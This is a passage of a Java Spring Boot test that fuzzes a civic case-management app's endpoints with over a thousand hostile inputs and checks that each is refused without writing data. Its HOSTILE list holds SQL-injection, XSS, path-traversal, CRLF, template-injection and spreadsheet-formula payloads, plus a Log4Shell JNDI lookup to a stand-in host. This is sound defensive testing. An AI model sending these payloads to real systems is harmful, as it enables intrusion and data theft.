package org.gridcase;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.function.Function;

import org.camunda.bpm.engine.ManagementService;
import org.gridcase.support.BusinessClock;
import org.gridcase.support.StatusProblems;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.HttpStatus;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.JdbcTemplate;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * Fault drill 4, bad input at volume: a seeded generator crosses a table of every public and staff endpoint (GridCase's
 * API, the public pages, Open311, and the engine REST calls a staff login can reach) with mutators (wrong types,
 * missing and oversized fields, broken JSON, GeoJSON, CSV and multipart, injection strings, unknown codes, wrong role,
 * another grid's ids). Every answer must be a 4xx: problem+json, or the documented answer where there is another (the
 * Open311 error list, the survey and notice pages); no 5xx; and no table holds one row more or less afterwards.
 * <p>
 * The requests are sent over a plain socket, so that the bytes are exactly the hostile ones. The public report
 * endpoints count reports per client address (AbuseGuard, 20 an hour): their inputs come from loopback addresses of
 * their own (127.0.0.2 …), a few per address, so that they reach validation and leave 127.0.0.1's allowance to
 * PublicReportTest; one address floods on purpose and must be told 429.
 */
class HostileInputDrillTest extends GridCaseTest {

    private static final long SEED = 20261201L;
    private static final int PER_ENDPOINT = 15;
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** Hostile strings: SQL, script, path traversal, CRLF, control and odd unicode characters, template syntax. */
    static final List<String> HOSTILE = List.of("' OR '1'='1", "1; DROP TABLE case_file;--",
            "\" UNION SELECT ID_, PWD_ FROM ACT_ID_USER --", "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f", "a\r\nSet-Cookie: x=1",
            "\r\n\r\nHTTP/1.1 200 OK", "\u0000", "\u0007\u001B[31m\u202E", "${jndi:ldap://evil/a}", "#{7*7}",
            "{{7*7}}", "\uFEFF", "\uD800", "\uDFFF\uD800", "😀🔥", "\u200B\u200D", "SFZ-C01-G01' --", "null",
            "=cmd|' /C calc'!A0", "%00", "9".repeat(400), "-1e309");

    @Autowired
    JdbcTemplate jdbc;

    @Autowired
    ManagementService management;

    @LocalServerPort
    int port;

    @Test
    void aThousandHostileInputsOverEveryEndpointAreRefusedWithAProblemAndWriteNothing() throws Exception {
        // Given the cases, ids and keys the inputs aim at, and the count of every table
        Fixture f = fixture();
        awaitQuiet();
        Map<String, Long> before = counts();

        // When the generated inputs are sent
        List<Input> inputs = generate(f, new Random(SEED));
        Map<String, Map<Integer, Integer>> statuses = new TreeMap<>();
        List<String> faults = new ArrayList<>();
        long started = System.nanoTime();
        for (Input in : inputs) {
            Answer a = send(in);
            statuses.computeIfAbsent(in.endpoint(), e -> new TreeMap<>()).merge(a.status(), 1, Integer::sum);
            String fault = fault(in, a);
            if (fault != null) {
                faults.add(in + " → " + a.status() + " " + a.contentType() + " " + abbreviate(a.text()) + ": " + fault);
            }
        }
        long millis = (System.nanoTime() - started) / 1_000_000;
        awaitQuiet();
        Map<String, Long> after = counts();

        // Then every answer was a refusal in the documented form, and nothing was written
        printSummary(inputs.size(), millis, statuses, faults);
        org.assertj.core.api.SoftAssertions.assertSoftly(soft -> {
            soft.assertThat(inputs).hasSizeGreaterThanOrEqualTo(1000);
            soft.assertThat(faults).isEmpty();
            soft.assertThat(after).as("rows of every table").isEqualTo(before);
        });
    }

    @Test
    void aFloodOfReportsFromOneAddressIsToldToWaitWithAProblem() throws Exception {
        InetAddress flooder = InetAddress.getByName("127.0.0.250");
        int refused = 0;
        long cases = jdbc.queryForObject("select count(*) from case_file", Long.class);
        for (int i = 0; i < 25; i++) {
            Answer a = send(new Input("flood", "reports", "POST", "/report/api/reports", null, Map.of(), MULTIPART_TYPE,
                    multipart(List.of(part("category", "UFO"), part("description", "洪水"))), flooder));
            if (a.status() == 429) {
                refused++;
                assertThat(fault(new Input("flood", "reports", "POST", "/report/api/reports", null, Map.of(), null,
                        null, flooder), a)).isNull();
            } else {
                assertThat(a.status()).isEqualTo(400);
            }
        }
        assertThat(refused).isEqualTo(5);
        assertThat(jdbc.queryForObject("select count(*) from case_file", Long.class)).isEqualTo(cases);
    }

    // ------------------------------------------------------------------ what is checked

    /** Why this answer is wrong, or null. */
    private static String fault(Input in, Answer a) {
        if (a.status() < 400 || a.status() >= 500) {
            return "not a 4xx";
        }
        String type = a.contentType() == null ? "" : a.contentType().toLowerCase(Locale.ROOT);
        if (a.text().contains(StatusProblems.MALFORMED)) {
            // refused before any routing (Tomcat, Spring Security's firewall): the one generic problem on every path
            return type.startsWith("application/problem+json") ? null : "not problem+json";
        }
        if (in.path().startsWith("/open311/v2/")) {
            boolean json = in.path().split("\\?")[0].endsWith(".json");
            boolean ok = json ? type.startsWith("application/json") && a.text().startsWith("[{\"code\":" + a.status())
                    : type.startsWith("text/xml") && a.text().contains("<errors><error><code>" + a.status());
            return ok ? null : "not GeoReport's error list";
        }
        if ((in.path().startsWith("/survey/") || in.path().startsWith("/notice/")) && type.startsWith("text/html")) {
            return null; // the documented answer: a page saying the link is invalid or what to fill in
        }
        JsonNode body;
        try {
            body = JSON.readTree(a.body());
        } catch (IOException e) {
            return "not JSON";
        }
        if (in.path().startsWith("/engine-rest/") && type.startsWith("application/json")) {
            // Camunda's own error object, which Tasklist and Cockpit read ("type": AuthorizationException …), passed
            // on by EngineAnswers only when its message shows no internals
            return body.has("type") && body.has("message") ? leaks(body.path("message").asText())
                    : "not Camunda's error object";
        }
        if (!type.startsWith("application/problem+json")) {
            return "not problem+json";
        }
        if (body.path("status").asInt() != a.status()) {
            return "problem status differs";
        }
        return leaks(a.text());
    }

    /** Why an error text shows the server's internals (a class name, SQL), or null. */
    private static String leaks(String text) {
        return text.contains("Exception") || text.matches("(?s).*\\b(java|org|jakarta)\\.[a-z]+\\..*")
                || text.toLowerCase(Locale.ROOT).contains("sql") ? "shows internals" : null;
    }

    private static final List<String> TABLES = List.of("case_file", "case_event", "case_attachment",
            "case_attachment_content", "notification", "survey_token", "report_access", "risk_report",
            "risk_report_resident", "notice", "notice_grid", "notice_recipient", "open311_api_key", "open311_request",
            "area", "building", "department", "department_category", "person", "person_role", "resident",
            "resident_tag", "resident_access_log", "case_access_log", "registry_change", "calendar_year", "calendar_day",
            "deployment_audit", "sms_gateway_part", "ACT_RE_DEPLOYMENT", "ACT_RE_PROCDEF", "ACT_RU_EXECUTION",
            "ACT_RU_TASK", "ACT_RU_VARIABLE", "ACT_RU_JOB", "ACT_RU_IDENTITYLINK", "ACT_HI_PROCINST", "ACT_HI_COMMENT",
            "ACT_HI_VARINST", "ACT_ID_USER", "ACT_ID_GROUP", "ACT_ID_MEMBERSHIP", "ACT_RU_AUTHORIZATION",
            "ACT_RU_FILTER");

    private Map<String, Long> counts() {
        Map<String, Long> counts = new LinkedHashMap<>();
        TABLES.forEach(t -> counts.put(t, jdbc.queryForObject("select count(*) from " + t, Long.class)));
        return counts;
    }

    /** Jobs due now (the fixture's cases, earlier tests' continuations) run before rows are counted. */
    private void awaitQuiet() {
        org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(200))
                .until(() -> management.createJobQuery().executable().count() == 0);
    }

    private static void printSummary(int total, long millis, Map<String, Map<Integer, Integer>> statuses,
            List<String> faults) {
        StringBuilder out = new StringBuilder("\n=== Hostile input drill: ").append(total).append(" inputs, ")
                .append(statuses.size()).append(" endpoints, ").append(millis).append(" ms ===\n");
        Map<Integer, Integer> all = new TreeMap<>();
        statuses.forEach((endpoint, seen) -> {
            int n = seen.values().stream().mapToInt(Integer::intValue).sum();
            out.append(String.format("%-58s %4d  %s%n", endpoint, n, seen));
            seen.forEach((s, c) -> all.merge(s, c, Integer::sum));
        });
        out.append("statuses overall: ").append(all).append('\n');
        out.append("faults: ").append(faults.size()).append('\n');
        faults.stream().limit(80).forEach(f -> out.append("  ").append(f).append('\n'));
        System.out.println(out);
    }

    // ------------------------------------------------------------------ fixture

    record Fixture(String ownCase, String otherCase, String taskId, String processInstance, long attachment,
            long resident, List<String> apiKeys, long notice) {
    }

    private Fixture fixture() throws Exception {
        String own = register(request("SANITATION", "东湖小区门口垃圾堆放，恶意输入演练", null));
        String other = register(request("NOISE", "西河村一组夜间噪音，恶意输入演练", "SFZ-C02-G01"));
        JsonNode tasks = get("admin", "/engine-rest/task?processInstanceBusinessKey=" + own).getBody();
        String taskId = tasks.get(0).path("id").asText();
        String pi = tasks.get(0).path("processInstanceId").asText();
        var upload = new org.springframework.util.LinkedMultiValueMap<String, Object>();
        upload.add("file", new org.springframework.core.io.ByteArrayResource(png()) {
            @Override
            public String getFilename() {
                return "scene.png";
            }
        });
        org.springframework.http.HttpHeaders headers = new org.springframework.http.HttpHeaders();
        headers.setContentType(org.springframework.http.MediaType.MULTIPART_FORM_DATA);
        ResponseEntity<JsonNode> uploaded = as("zhangwei").postForEntity("/api/cases/" + own + "/attachments",
                new org.springframework.http.HttpEntity<>(upload, headers), JsonNode.class);
        assertThat(uploaded.getStatusCode()).as("%s", uploaded.getBody()).isEqualTo(HttpStatus.CREATED);
        long resident = jdbc.queryForObject("select min(r.id) from resident r join building b on b.id = r.building_id "
                + "where b.code = 'SFZ-B0101'", Long.class);
        List<String> keys = new ArrayList<>();
        for (int i = 0; i < 3; i++) {
            keys.add(postJson("admin", "/api/open311/keys", Map.of("client", "演练客户端 " + i)).getBody()
                    .path("apiKey").asText());
        }
        Long notice = jdbc.queryForObject("select max(id) from notice", Long.class);
        return new Fixture(own, other, taskId, pi, uploaded.getBody().path("id").asLong(), resident, keys,
                notice == null ? 1 : notice);
    }

    private String register(Map<String, Object> body) {
        ResponseEntity<JsonNode> created = postJson("chenxiaoyan", "/api/requests", body);
        assertThat(created.getStatusCode()).as("%s", created.getBody()).isEqualTo(HttpStatus.CREATED);
        return created.getBody().path("trackingNumber").asText();
    }

    private static Map<String, Object> request(String category, String description, String grid) {
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("category", category);
        body.put("description", description);
        body.put("channel", "HOTLINE");
        if (grid == null) {
            body.put("location", Map.of("lat", 41.1035, "lng", 122.0060));
        } else {
            body.put("gridCode", grid);
        }
        body.put("reporter", Map.of("name", "刘桂芝", "phone", "13700000101"));
        return body;
    }

    // ------------------------------------------------------------------ the endpoint table

    /** What a field or parameter takes, which decides how it is broken. */
    enum Kind {
        CODE, TEXT, NUMBER, INT, DATE, CODES, IDS, BOOL, LONG_ID, TOKEN, FORMAT,
        /** A page's path variable: any well-formed tracking number shows the (static) page. */
        PAGE
    }

    /** A field of a JSON or form body, a query parameter or a path variable; {@code max}: a text's longest. */
    record Field(String name, Kind kind, boolean required, int max) {
    }

    enum Body {
        NONE, JSON, CSV, GEOJSON, MULTIPART, FORM
    }

    /**
     * One endpoint: its call as a staff member (or nobody) makes it correctly, the fields that may be broken, and
     * {@code wrongRole}: a login that may not make it (403), {@code otherScope}: a login outside the target's area (404
     * or 4xx), both with the correct body.
     */
    record Endpoint(String name, String method, String path, String login, Body body, Object base, List<Field> fields,
            List<Field> query, List<Field> pathVars, String wrongRole, String otherScope, boolean rateLimited) {
    }

    private static Field f(String name, Kind kind, boolean required, int max) {
        return new Field(name, kind, required, max);
    }

    private static Field f(String name, Kind kind) {
        return new Field(name, kind, false, 0);
    }

    private List<Endpoint> endpoints(Fixture x) {
        List<Endpoint> e = new ArrayList<>();
        ObjectNode request = JSON.valueToTree(request("SANITATION", "恶意输入演练：不应登记", null));
        e.add(new Endpoint("POST /api/requests", "POST", "/api/requests", "chenxiaoyan", Body.JSON, request,
                List.of(f("category", Kind.CODE, true, 0), f("description", Kind.TEXT, true, 4000),
                        f("channel", Kind.CODE, true, 0), f("urgency", Kind.CODE), f("location", Kind.CODE, true, 0),
                        f("location.lat", Kind.NUMBER), f("location.lng", Kind.NUMBER),
                        f("address", Kind.TEXT, false, 255),
                        f("gridCode", Kind.CODE), f("reporter.name", Kind.TEXT, true, 64),
                        f("reporter.phone", Kind.CODE, true, 0), f("reporter.email", Kind.CODE),
                        f("externalId", Kind.TEXT, false, 128)),
                List.of(), List.of(), "maxiuying", null, false));
        ObjectNode risk = NODES.objectNode().put("type", "FIRE").put("description", "楼道堆放杂物，恶意输入演练")
                .put("severity", "MEDIUM").put("peopleAffected", 10);
        risk.putObject("location").put("lat", 41.1035).put("lng", 122.0060);
        e.add(new Endpoint("POST /api/risks", "POST", "/api/risks", "zhangwei", Body.JSON, risk,
                List.of(f("type", Kind.CODE, true, 0), f("description", Kind.TEXT, true, 4000),
                        f("severity", Kind.CODE, true, 0), f("peopleAffected", Kind.INT, true, 0),
                        f("location.lat", Kind.NUMBER), f("location.lng", Kind.NUMBER), f("residentIds", Kind.IDS),
                        f("externalId", Kind.TEXT, false, 128)),
                List.of(), List.of(), "chenxiaoyan", null, false));
        List<Field> tn = List.of(f("trackingNumber", Kind.TOKEN));
        e.add(new Endpoint("GET /api/cases/{tn}", "GET", "/api/cases/" + x.ownCase(), "zhangwei", Body.NONE, null,
                List.of(), List.of(), tn, null, "wulei", false));
        e.add(new Endpoint("GET /api/cases", "GET", "/api/cases", "chenxiaoyan", Body.NONE, null, List.of(),
                List.of(f("status", Kind.CODE), f("light", Kind.CODE), f("page", Kind.INT), f("size", Kind.INT)),
                List.of(), null, null, false));
        e.add(new Endpoint("POST /api/cases/{tn}/supervision", "POST", "/api/cases/" + x.ownCase() + "/supervision",
                "lizhenhua", Body.JSON, NODES.objectNode().put("note", "请加快办理"),
                List.of(f("note", Kind.TEXT, true, 1000), f("deadline", Kind.DATE)), List.of(), tn, "zhangwei", null,
                false));
        e.add(new Endpoint("POST /api/cases/{tn}/redispatch", "POST", "/api/cases/" + x.ownCase() + "/redispatch",
                "chenxiaoyan", Body.JSON, NODES.objectNode().put("gridCode", "SFZ-C01-G02").put("note", "改派"),
                List.of(f("gridCode", Kind.CODE), f("departmentCode", Kind.CODE), f("note", Kind.TEXT, true, 1000)),
                List.of(), tn, "zhangwei", null, false));
        e.add(new Endpoint("POST /api/cases/{tn}/withdrawal", "POST", "/api/cases/" + x.ownCase() + "/withdrawal",
                "zhangwei", Body.JSON, NODES.objectNode().put("reason", "反映人撤回"),
                List.of(f("reason", Kind.TEXT, true, 1000)), List.of(), tn, "maxiuying", "wulei", false));
        e.add(new Endpoint("POST /api/cases/{tn}/attachments", "POST", "/api/cases/" + x.ownCase() + "/attachments",
                "zhangwei", Body.MULTIPART, List.of(filePart("file", "scene.png", png())),
                List.of(f("note", Kind.TEXT, false, 500)), List.of(), tn, "zhongwen", "wulei", false));
        e.add(new Endpoint("GET /api/cases/{tn}/attachments", "GET", "/api/cases/" + x.ownCase() + "/attachments",
                "zhangwei", Body.NONE, null, List.of(), List.of(), tn, null, "wulei", false));
        List<Field> id = List.of(f("id", Kind.LONG_ID));
        String attachment = "/api/cases/" + x.ownCase() + "/attachments/" + x.attachment();
        e.add(new Endpoint("GET /api/cases/{tn}/attachments/{id}", "GET", attachment, "zhangwei", Body.NONE, null,
                List.of(), List.of(), id, null, "wulei", false));
        e.add(new Endpoint("GET /api/cases/{tn}/attachments/{id}/thumbnail", "GET", attachment + "/thumbnail",
                "zhangwei", Body.NONE, null, List.of(), List.of(), List.of(f("trackingNumber", Kind.TOKEN)), null,
                "wulei", false));
        e.add(new Endpoint("GET /api/cases/{other}/attachments/{id}", "GET", "/api/cases/" + x.otherCase()
                + "/attachments/" + x.attachment(), "admin", Body.NONE, null, List.of(), List.of(), id, null, null,
                false));
        e.add(new Endpoint("GET /api/notifications", "GET", "/api/notifications", "chenxiaoyan", Body.NONE, null,
                List.of(), List.of(f("status", Kind.CODE), f("channel", Kind.CODE), f("page", Kind.INT),
                        f("size", Kind.INT)), List.of(), "zhangwei", null, false));
        e.add(new Endpoint("POST /api/notifications/{id}/retry", "POST", "/api/notifications/999999999/retry", "admin",
                Body.NONE, null, List.of(), List.of(), id, "chenxiaoyan", null, false));
        List<Field> metricQuery = List.of(f("from", Kind.DATE), f("to", Kind.DATE), f("area", Kind.CODE),
                f("department", Kind.CODE), f("kind", Kind.CODE), f("category", Kind.CODE));
        e.add(new Endpoint("GET /api/metrics/rates", "GET", "/api/metrics/rates", "chenxiaoyan", Body.NONE, null,
                List.of(), metricQuery, List.of(), null, null, false));
        e.add(new Endpoint("GET /api/metrics/rates.csv", "GET", "/api/metrics/rates.csv", "chenxiaoyan", Body.NONE,
                null, List.of(), metricQuery, List.of(), null, null, false));
        List<Field> seriesQuery = new ArrayList<>(metricQuery);
        seriesQuery.add(f("period", Kind.CODE));
        e.add(new Endpoint("GET /api/metrics/rates/series", "GET", "/api/metrics/rates/series", "chenxiaoyan",
                Body.NONE, null, List.of(), seriesQuery, List.of(), null, null, false));
        e.add(new Endpoint("GET /api/metrics/rates/series.csv", "GET", "/api/metrics/rates/series.csv", "chenxiaoyan",
                Body.NONE, null, List.of(), seriesQuery, List.of(), null, null, false));
        e.add(new Endpoint("GET /api/metrics/lights", "GET", "/api/metrics/lights", "zhoulihua", Body.NONE, null,
                List.of(), List.of(f("area", Kind.CODE), f("department", Kind.CODE)), List.of(), null, null, false));
        List<Field> assessment = List.of(f("month", Kind.DATE), f("area", Kind.CODE), f("department", Kind.CODE));
        e.add(new Endpoint("GET /api/metrics/assessment", "GET", "/api/metrics/assessment", "lizhenhua", Body.NONE,
                null, List.of(), assessment, List.of(), null, null, false));
        e.add(new Endpoint("GET /api/metrics/assessment.csv", "GET", "/api/metrics/assessment.csv", "lizhenhua",
                Body.NONE, null, List.of(), assessment, List.of(), null, null, false));
        e.add(new Endpoint("GET /api/risks/register", "GET", "/api/risks/register", "maxiuying", Body.NONE, null,
                List.of(), List.of(f("area", Kind.CODE), f("open", Kind.BOOL)), List.of(), null, null, false));
        List<Field> code = List.of(f("code", Kind.TOKEN));
        for (String what : List.of("qr.png", "poster", "posters.zip")) {
            e.add(new Endpoint("GET /api/registry/areas/{code}/" + what, "GET", "/api/registry/areas/"
                    + (what.equals("posters.zip") ? "SFZ-C01" : "SFZ-C01-G01") + "/" + what, "maxiuying", Body.NONE,
                    null, List.of(), List.of(), code, null, null, false));
        }
        e.add(new Endpoint("POST /api/registry/areas/import", "POST", "/api/registry/areas/import", "admin",
                Body.GEOJSON, featureCollection(), List.of(), List.of(), List.of(), "zhangwei", null, false));
        e.add(new Endpoint("GET /api/registry/locate", "GET", "/api/registry/locate?lat=41.1035&lng=122.006",
                "zhangwei", Body.NONE, null, List.of(), List.of(f("lat", Kind.NUMBER), f("lng", Kind.NUMBER)),
                List.of(), null, null, false));
        e.add(new Endpoint("GET /api/registry/areas/{code}", "GET", "/api/registry/areas/SFZ-C01", "zhangwei",
                Body.NONE, null, List.of(), List.of(), code, null, null, false));
        e.add(new Endpoint("GET /api/registry/areas", "GET", "/api/registry/areas", "zhangwei", Body.NONE, null,
                List.of(), List.of(f("level", Kind.CODE), f("page", Kind.INT), f("size", Kind.INT)), List.of(), null,
                null, false));
        ArrayNode departments = NODES.arrayNode();
        departments.addObject().put("code", "HOSTILE_DEPT").put("name", "演练部门").putArray("categories")
                .add("SANITATION");
        e.add(new Endpoint("POST /api/registry/departments", "POST", "/api/registry/departments", "admin", Body.JSON,
                departments, List.of(f("[0].code", Kind.CODE, true, 0), f("[0].name", Kind.TEXT, true, 128),
                        f("[0].areaCode", Kind.CODE), f("[0].categories", Kind.CODES)),
                List.of(), List.of(), "maxiuying", null, false));
        e.add(new Endpoint("POST /api/registry/people/import", "POST", "/api/registry/people/import", "admin",
                Body.CSV, "login,name,phone,email,role,area,department\n"
                        + "hostile01,演练员,13900000777,,GRID_WORKER,SFZ-C01-G01,\n",
                List.of(), List.of(), List.of(), "maxiuying", null, false));
        e.add(new Endpoint("GET /api/registry/people", "GET", "/api/registry/people", "admin", Body.NONE, null,
                List.of(), List.of(f("role", Kind.CODE), f("page", Kind.INT), f("size", Kind.INT)), List.of(), null,
                null, false));
        e.add(new Endpoint("POST /api/registry/buildings/import", "POST", "/api/registry/buildings/import",
                "maxiuying", Body.CSV, "code,address,grid,lat,lng,households\n"
                        + "HOSTILE-B1,示范镇演练路1号,SFZ-C01-G01,41.1035,122.0060,6\n",
                List.of(), List.of(), List.of(), "zhangwei", "zhaoguoqing", false));
        e.add(new Endpoint("GET /api/registry/buildings", "GET", "/api/registry/buildings?grid=SFZ-C01-G01",
                "maxiuying", Body.NONE, null, List.of(), List.of(f("page", Kind.INT), f("size", Kind.INT)), List.of(),
                null, null, false));
        e.add(new Endpoint("POST /api/registry/buildings/{code}/verifications", "POST",
                "/api/registry/buildings/SFZ-B0101/verifications", "maxiuying", Body.NONE, null, List.of(), List.of(),
                code, "zhangwei", "zhaoguoqing", false));
        e.add(new Endpoint("POST /api/registry/residents/import", "POST", "/api/registry/residents/import",
                "zhangwei", Body.CSV, "idNumber,name,phone,building,room,tags\n"
                        + "210302199001010037,演练居民,13700000999,SFZ-B0101,9-901,\n",
                List.of(), List.of(), List.of(), "chenxiaoyan", "wulei", false));
        e.add(new Endpoint("GET /api/registry/residents", "GET", "/api/registry/residents", "zhangwei", Body.NONE,
                null, List.of(), List.of(f("tag", Kind.CODE), f("page", Kind.INT), f("size", Kind.INT)), List.of(),
                null, null, false));
        e.add(new Endpoint("GET /api/registry/residents/{id}/id-number", "GET", "/api/registry/residents/"
                + x.resident() + "/id-number", "maxiuying", Body.NONE, null, List.of(), List.of(), id, "zhangwei",
                "zhaoguoqing", false));
        e.add(new Endpoint("GET /api/registry/residents/access-log", "GET", "/api/registry/residents/access-log",
                "admin", Body.NONE, null, List.of(), List.of(f("resident", Kind.LONG_ID), f("page", Kind.INT),
                        f("size", Kind.INT)), List.of(), "maxiuying", null, false));
        e.add(new Endpoint("POST /api/open311/keys", "POST", "/api/open311/keys", "admin", Body.JSON,
                NODES.objectNode().put("client", "演练"), List.of(f("client", Kind.TEXT, true, 128)), List.of(),
                List.of(), "chenxiaoyan", null, false));
        e.add(new Endpoint("GET /api/open311/keys", "GET", "/api/open311/keys", "admin", Body.NONE, null, List.of(),
                List.of(), List.of(), "chenxiaoyan", null, false));
        e.add(new Endpoint("DELETE /api/open311/keys/{id}", "DELETE", "/api/open311/keys/999999999", "admin",
                Body.NONE, null, List.of(), List.of(), id, "chenxiaoyan", null, false));
        e.add(new Endpoint("GET /api/admin/deployments", "GET", "/api/admin/deployments", "admin", Body.NONE, null,
                List.of(), List.of(f("page", Kind.INT), f("size", Kind.INT)), List.of(), "zhongwen", null, false));
        e.add(new Endpoint("GET /api/calendar/add-working-days", "GET",
                "/api/calendar/add-working-days?from=2026-09-30T10:00:00%2B08:00&days=1", "zhangwei", Body.NONE, null,
                List.of(), List.of(f("from", Kind.DATE), f("days", Kind.INT)), List.of(), null, null, false));
        e.add(new Endpoint("GET /api/calendar/days/{date}", "GET", "/api/calendar/days/2026-10-01", "zhangwei",
                Body.NONE, null, List.of(), List.of(), List.of(f("date", Kind.TOKEN)), null, null, false));
        ObjectNode year = NODES.objectNode().put("publishedBy", "演练");
        year.putArray("holidays").addObject().put("from", "2031-01-01").put("to", "2031-01-01").put("name", "元旦");
        year.putArray("makeupWorkdays");
        e.add(new Endpoint("PUT /api/calendar/years/{year}", "PUT", "/api/calendar/years/2031", "zhongwen", Body.JSON,
                year, List.of(f("publishedBy", Kind.TEXT, false, 255), f("holidays", Kind.CODES),
                        f("holidays[0].from", Kind.DATE, true, 0), f("holidays[0].to", Kind.DATE, true, 0),
                        f("holidays[0].name", Kind.TEXT, true, 64), f("makeupWorkdays", Kind.CODES)),
                List.of(), List.of(f("year", Kind.TOKEN)), "zhangwei", null, false));
        ObjectNode notice = NODES.objectNode().put("title", "演练通知").put("text", "恶意输入演练，不应发出").put("kind", "SAFETY")
                .put("confirmBy", BusinessClock.now().plus(Duration.ofDays(30)).toString());
        notice.putArray("areaCodes").add("SFZ-C01-G01");
        e.add(new Endpoint("POST /api/notices", "POST", "/api/notices", "maxiuying", Body.JSON, notice,
                List.of(f("title", Kind.TEXT, true, 100), f("text", Kind.TEXT, true, 2000),
                        f("kind", Kind.CODE, true, 0),
                        f("confirmBy", Kind.DATE, true, 0), f("areaCodes", Kind.CODES, true, 0),
                        f("perHousehold", Kind.BOOL)),
                List.of(), List.of(), "zhangwei", null, false));
        e.add(new Endpoint("GET /api/notices", "GET", "/api/notices", "maxiuying", Body.NONE, null, List.of(),
                List.of(f("page", Kind.INT), f("size", Kind.INT)), List.of(), null, null, false));
        e.add(new Endpoint("GET /api/notices/{id}", "GET", "/api/notices/999999999", "maxiuying", Body.NONE, null,
                List.of(), List.of(), id, null, null, false));
        e.add(new Endpoint("GET /api/me", "GET", "/api/me", "zhangwei", Body.NONE, null, List.of(), List.of(),
                List.of(), null, null, false));
        e.add(new Endpoint("GET /actuator/prometheus", "GET", "/actuator/prometheus", "admin", Body.NONE, null,
                List.of(), List.of(), List.of(), "zhangwei", null, false));
        // public: no login
        List<Field> token = List.of(f("token", Kind.TOKEN));
        e.add(new Endpoint("GET /survey/{token}", "GET", "/survey/unknown-token", null, Body.NONE, null, List.of(),
                List.of(), token, null, null, false));
        e.add(new Endpoint("POST /survey/{token}", "POST", "/survey/unknown-token", null, Body.FORM,
                new LinkedHashMap<>(Map.of("satisfaction", "SATISFIED", "resolved", "YES")),
                List.of(f("satisfaction", Kind.CODE), f("resolved", Kind.CODE), f("comment", Kind.TEXT, false, 1000)),
                List.of(), token, null, null, false));
        e.add(new Endpoint("GET /notice/{token}", "GET", "/notice/unknown-token", null, Body.NONE, null, List.of(),
                List.of(), token, null, null, false));
        e.add(new Endpoint("POST /notice/{token}", "POST", "/notice/unknown-token", null, Body.NONE, null, List.of(),
                List.of(), token, null, null, false));
        e.add(new Endpoint("GET /report/api/nearby", "GET", "/report/api/nearby?category=NOISE&lat=41.1&lng=122.0",
                null, Body.NONE, null, List.of(), List.of(f("category", Kind.CODE), f("lat", Kind.NUMBER),
                        f("lng", Kind.NUMBER)), List.of(), null, null, false));
        e.add(new Endpoint("GET /report/api/status/{tn}", "GET", "/report/api/status/" + x.ownCase() + "?k=guessed",
                null, Body.NONE, null, List.of(), List.of(f("k", Kind.TOKEN)), tn, null, null, false));
        e.add(new Endpoint("GET /report/{tn}", "GET", "/report/SQ-00000000-0000x", null, Body.NONE, null, List.of(),
                List.of(), List.of(f("trackingNumber", Kind.PAGE)), null, null, false));
        e.add(new Endpoint("POST /report/api/reports", "POST", "/report/api/reports", null, Body.MULTIPART,
                List.of(part("category", "SANITATION"), part("description", "恶意输入演练"), part("lat", "41.1035"),
                        part("lng", "122.0060"), part("phone", "13712349999")),
                List.of(f("category", Kind.CODE, true, 0), f("description", Kind.TEXT, true, 1000),
                        f("lat", Kind.NUMBER), f("lng", Kind.NUMBER), f("phone", Kind.CODE, true, 0)),
                List.of(), List.of(), null, null, true));
        e.add(new Endpoint("POST /report/api/follow", "POST", "/report/api/follow", null, Body.JSON,
                NODES.objectNode().put("trackingNumber", "SQ-00000000-0000"),
                List.of(f("trackingNumber", Kind.CODE, true, 0), f("challenge", Kind.CODE), f("nonce", Kind.CODE)),
                List.of(), List.of(), null, null, true));
        for (String format : List.of("xml", "json")) {
            String b = "/open311/v2/";
            e.add(new Endpoint("GET /open311/v2/discovery." + format, "GET", b + "discovery." + format, null,
                    Body.NONE, null, List.of(), List.of(), List.of(f("format", Kind.FORMAT)), null, null, false));
            e.add(new Endpoint("GET /open311/v2/services/{code}." + format, "GET", b + "services/NOISE." + format,
                    null, Body.NONE, null, List.of(), List.of(f("jurisdiction_id", Kind.CODE)),
                    List.of(f("code", Kind.TOKEN)), null, null, false));
            e.add(new Endpoint("GET /open311/v2/requests." + format, "GET", b + "requests." + format, null,
                    Body.NONE, null, List.of(), List.of(f("start_date", Kind.DATE), f("end_date", Kind.DATE),
                            f("status", Kind.CODE), f("jurisdiction_id", Kind.CODE)), List.of(), null, null, false));
            e.add(new Endpoint("GET /open311/v2/requests/{id}." + format, "GET", b + "requests/SQ-00000000-0000."
                    + format, null, Body.NONE, null, List.of(), List.of(), List.of(f("id", Kind.TOKEN)), null, null,
                    false));
            e.add(new Endpoint("GET /open311/v2/tokens/{token}." + format, "GET", b + "tokens/unknown." + format,
                    null, Body.NONE, null, List.of(), List.of(), token, null, null, false));
            Map<String, String> form = new LinkedHashMap<>();
            form.put("api_key", "KEY");
            form.put("service_code", "NOISE");
            form.put("lat", "41.1035");
            form.put("long", "122.0060");
            form.put("description", "恶意输入演练");
            form.put("attribute[noise_time]", "NIGHT");
            form.put("phone", "13912345678");
            e.add(new Endpoint("POST /open311/v2/requests." + format, "POST", b + "requests." + format, null,
                    Body.FORM, form, List.of(f("api_key", Kind.CODE, true, 0), f("service_code", Kind.CODE, true, 0),
                            f("lat", Kind.NUMBER), f("long", Kind.NUMBER), f("description", Kind.TEXT, false, 4000),
                            f("attribute[noise_time]", Kind.CODE, true, 0), f("phone", Kind.CODE, true, 0),
